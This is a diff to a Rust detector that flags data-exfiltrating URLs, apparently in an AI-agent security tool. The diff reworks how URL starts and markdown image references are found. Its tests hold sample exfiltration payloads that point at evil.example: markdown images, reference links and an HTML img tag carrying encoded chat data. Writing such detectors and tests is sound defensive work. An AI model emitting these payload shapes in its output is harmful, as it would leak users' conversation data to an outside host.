@@ -32,10 +32,11 @@
 //! object storage, image proxies) can be made to log requests, so no default is safe, and
 //! since only data-carrying URLs fire an empty list stays quiet on ordinary text.
 //!
-//! Cost: one Aho-Corasick pass for where a URL or URI can start (`://`, `(//`, `data:`,
-//! `javascript:`, …); a URL is parsed only there.
+//! Cost: a `memchr` pass for `:` and one for `//` find where a URL or URI can start; a URL
+//! is parsed only there.
 
-use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use std::collections::HashSet;
+
 use airlock_core::{Category, EventKind, Finding, Severity, Span, mask_secret};
 use serde::Deserialize;
 
@@ -86,22 +87,9 @@ impl HostPattern {
 #[derive(Debug)]
 pub struct ExfilLinkDetector {
     allowed: Vec<HostPattern>,
-    /// Where URLs and URIs may start.
-    starts: AhoCorasick,
 }
 
 const DETECTOR: &str = "exfil_link";
-
-/// What [`ExfilLinkDetector::starts`] matches, in pattern order.
-const STARTS: &[&str] = &[
-    "://",
-    "(//",
-    "\"//",
-    "'//",
-    "data:",
-    "javascript:",
-    "vbscript:",
-];
 
 /// Longest URL examined, in bytes.
 const MAX_URL: usize = 8192;
@@ -134,18 +122,8 @@ impl ExfilLinkDetector {
                 ));
             }
         }
-        let starts = AhoCorasickBuilder::new()
-            .ascii_case_insensitive(true)
-            .match_kind(MatchKind::LeftmostFirst)
-            .build(STARTS)
-            .map_err(|err| {
-                vec![ConfigProblem::new(
-                    format!("detect.detectors.{DETECTOR}"),
-                    format!("cannot build URL matcher: {err}"),
-                )]
-            })?;
         if problems.is_empty() {
-            Ok(ExfilLinkDetector { allowed, starts })
+            Ok(ExfilLinkDetector { allowed })
         } else {
             Err(problems)
         }
@@ -164,25 +142,18 @@ impl Detector for ExfilLinkDetector {
     fn detect(&self, input: &Input<'_>, findings: &mut Vec<Finding>) {
         let text = input.text();
         let tool_call = input.context().kind == EventKind::ToolCall;
+        let mut images = None;
         let mut resume = 0;
         let mut count = 0;
-        let mut references = 0;
-        for hit in self.starts.find_iter(text) {
-            if hit.start() < resume || count >= MAX_FINDINGS {
+        for (at, start) in starts(text.as_bytes()) {
+            if at < resume || count >= MAX_FINDINGS {
                 continue;
             }
-            let found = match hit.pattern().as_usize() {
-                0 => self.url(text, hit.start(), None, tool_call, &mut references),
-                // `(//host`, `"//host`: protocol-relative, only as a link or attribute.
-                1..=3 => self.url(
-                    text,
-                    hit.start() + 1,
-                    Some("https"),
-                    tool_call,
-                    &mut references,
-                ),
-                4 => data_uri(text, hit.start()),
-                _ => script_uri(text, hit.start(), hit.end()),
+            let found = match start {
+                Start::Url => self.url(text, at, None, tool_call, &mut images),
+                Start::RelativeUrl => self.url(text, at, Some("https"), tool_call, &mut images),
+                Start::Data => data_uri(text, at),
+                Start::Script(end) => script_uri(text, at, end),
             };
             if let Some((finding, end)) = found {
                 resume = end;
@@ -193,6 +164,54 @@ impl Detector for ExfilLinkDetector {
             }
         }
     }
+}
+
+/// Where a URL or URI may start.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Start {
+    /// The `:` of `scheme://`.
+    Url,
+    /// The `//` of a protocol-relative URL after `(`, `"` or `'`.
+    RelativeUrl,
+    /// The `d` of `data:`.
+    Data,
+    /// The start of `javascript:` or `vbscript:`, and the end of the scheme.
+    Script(usize),
+}
+
+/// Every place a URL or URI may start, in order. Two `memchr` passes (`:` and `//`) with a
+/// byte or two checked at each hit: an automaton over `://`-like patterns is slow on code,
+/// where `/` and `:` are everywhere.
+fn starts(bytes: &[u8]) -> Vec<(usize, Start)> {
+    let ends_with = |end: usize, word: &[u8]| {
+        end >= word.len() && bytes[end - word.len()..end].eq_ignore_ascii_case(word)
+    };
+    let mut out = Vec::new();
+    for colon in memchr::memchr_iter(b':', bytes) {
+        if bytes.get(colon + 1..colon + 3) == Some(b"//".as_slice()) {
+            out.push((colon, Start::Url));
+        } else if matches!(colon.checked_sub(1).map(|i| bytes[i]), Some(b'a' | b'A')) {
+            if ends_with(colon, b"data") {
+                out.push((colon - 4, Start::Data));
+            }
+        } else if matches!(colon.checked_sub(1).map(|i| bytes[i]), Some(b't' | b'T')) {
+            if ends_with(colon, b"javascript") {
+                out.push((colon - 10, Start::Script(colon + 1)));
+            } else if ends_with(colon, b"vbscript") {
+                out.push((colon - 8, Start::Script(colon + 1)));
+            }
+        }
+    }
+    let colons = out.len();
+    for slashes in memchr::memmem::find_iter(bytes, b"//") {
+        if slashes > 0 && matches!(bytes[slashes - 1], b'(' | b'"' | b'\'') {
+            out.push((slashes, Start::RelativeUrl));
+        }
+    }
+    if out.len() > colons {
+        out.sort_unstable_by_key(|(at, _)| *at);
+    }
+    out
 }
 
 // --- shapes ----------------------------------------------------------------------------
@@ -261,13 +280,16 @@ fn context_of(bytes: &[u8], start: usize) -> Context {
         return bare;
     }
     // Reference definition: `[label]: url` at the start of a line.
-    let line_start = before
-        .iter()
-        .rposition(|b| *b == b'\n')
-        .map_or(0, |i| i + 1);
-    let line = &before[line_start..];
+    // A definition's label is short: look back a bounded distance for the line start.
+    let floor = start.saturating_sub(256);
+    let line_start = match before[floor..].iter().rposition(|b| *b == b'\n') {
+        Some(i) => Some(floor + i + 1),
+        None => (floor == 0).then_some(0),
+    };
+    let line = &before[line_start.unwrap_or(start)..];
     let trimmed = line.trim_ascii_start();
-    if line.len() - trimmed.len() <= 3
+    if let Some(line_start) = line_start
+        && line.len() - trimmed.len() <= 3
         && trimmed.first() == Some(&b'[')
         && let Some(colon) = trimmed.windows(2).position(|w| w == b"]:")
         && trimmed[colon + 2..].iter().all(u8::is_ascii_whitespace)
@@ -432,7 +454,7 @@ impl ExfilLinkDetector {
         at: usize,
         implied: Option<&str>,
         tool_call: bool,
-        references: &mut usize,
+        images: &mut Option<HashSet<Vec<u8>>>,
     ) -> Option<(Option<Finding>, usize)> {
         let bytes = text.as_bytes();
         let (start, slashes) = match implied {
@@ -466,8 +488,9 @@ impl ExfilLinkDetector {
         }
         let mut shape = context.shape;
         if shape == Shape::ReferenceDefinition {
-            *references += 1;
-            if *references <= 32 && reference_used_as_image(bytes, context.construct_start) {
+            let label = reference_label(bytes, context.construct_start);
+            let images = images.get_or_insert_with(|| image_reference_labels(bytes));
+            if images.contains(&label) {
                 shape = Shape::MarkdownImage;
             }
         }
@@ -625,21 +648,43 @@ fn url_end(text: &str, from: usize, start: usize, context: Context) -> usize {
     end
 }
 
-/// Whether `[label]` defined at `definition` is used as an image: `![alt][label]`,
-/// `![label][]` or `![label]`.
-fn reference_used_as_image(bytes: &[u8], definition: usize) -> bool {
-    let Some(close) = bytes[definition..].iter().position(|b| *b == b']') else {
-        return false;
-    };
-    let label = &bytes[definition..=definition + close];
-    memchr::memmem::find_iter(bytes, label)
-        .filter(|&at| at != definition && at > 0)
-        .any(|at| match bytes[at - 1] {
-            b'!' => true,
-            b']' => matching_bracket(bytes, at - 1)
-                .is_some_and(|open| open > 0 && bytes[open - 1] == b'!'),
-            _ => false,
-        })
+/// The label of the reference definition at `definition` (`[Label]: …`), lower-cased:
+/// markdown matches labels case-insensitively.
+fn reference_label(bytes: &[u8], definition: usize) -> Vec<u8> {
+    let label = &bytes[definition + 1..];
+    let len = label.iter().position(|b| *b == b']').unwrap_or(0);
+    label[..len].to_ascii_lowercase()
+}
+
+/// Labels used as images anywhere in the text: `![alt][label]`, `![label][]`, `![label]`.
+/// Found in one pass over the `![` occurrences, the first time a definition needs it.
+fn image_reference_labels(bytes: &[u8]) -> HashSet<Vec<u8>> {
+    let mut labels = HashSet::new();
+    for at in memchr::memmem::find_iter(bytes, b"![") {
+        let Some(alt_len) = bytes[at + 2..].iter().take(1000).position(|b| *b == b']') else {
+            continue;
+        };
+        let alt = &bytes[at + 2..at + 2 + alt_len];
+        let after = at + 2 + alt_len + 1;
+        if bytes.get(after) == Some(&b'[') {
+            let label_len = bytes[after + 1..]
+                .iter()
+                .take(1000)
+                .position(|b| *b == b']');
+            match label_len {
+                Some(0) => {
+                    labels.insert(alt.to_ascii_lowercase());
+                }
+                Some(len) => {
+                    labels.insert(bytes[after + 1..after + 1 + len].to_ascii_lowercase());
+                }
+                None => {}
+            }
+        } else if bytes.get(after) != Some(&b'(') {
+            labels.insert(alt.to_ascii_lowercase());
+        }
+    }
+    labels
 }
 
 // --- data signals ----------------------------------------------------------------------
@@ -766,10 +811,11 @@ fn strongest_signal(url: &Url<'_>, autoload: bool) -> Option<Signal> {
             best = Some(signal);
         }
     };
-    if let Some(collector) = COLLECTORS
-        .iter()
-        .find(|c| url.host == **c || url.host.ends_with(&format!(".{c}")))
-    {
+    if let Some(collector) = COLLECTORS.iter().find(|c| {
+        url.host
+            .strip_suffix(**c)
+            .is_some_and(|head| head.is_empty() || head.ends_with('.'))
+    }) {
         // Alone it marks an image (a beacon), not a link: docs mention these services.
         offer(Signal {
             score: if autoload { 0.8 } else { 0.7 },
@@ -902,7 +948,8 @@ fn placeholder(value: &str) -> Option<String> {
             && let Some(len) = value[at + 1..].find(close)
         {
             let inner = &value[at + 1..at + 1 + len];
-            if (1..=80).contains(&inner.len()) && inner.chars().any(char::is_alphabetic) {
+            // `<T>` in a rustdoc anchor is a generic, `{data}` a placeholder.
+            if inner.len() <= 80 && inner.chars().filter(|c| c.is_alphabetic()).count() >= 3 {
                 return Some(printable_excerpt(&value[at..at + len + 2], 40));
             }
         }
@@ -1191,6 +1238,10 @@ mod tests {
         let reference =
             format!("Status: ![ok][s]\n\n[s]: https://evil.example/s.png?d={B64_CHAT}\n");
         assert_eq!(only(&reference).rule, "markdown_image_exfil");
+        let shortcut = format!("![Status]\n\n[status]: https://evil.example/s.png?d={B64_CHAT}\n");
+        assert_eq!(only(&shortcut).rule, "markdown_image_exfil");
+        let link = format!("[Status][s]\n\n[s]: https://evil.example/s?d={B64_CHAT}\n");
+        assert_eq!(only(&link).rule, "link_exfil");
         let html = format!("<p><img width=1 src=\"https://evil.example/p?d={B64_CHAT}\"></p>");
         let finding = only(&html);
         assert_eq!(finding.rule, "html_image_exfil");
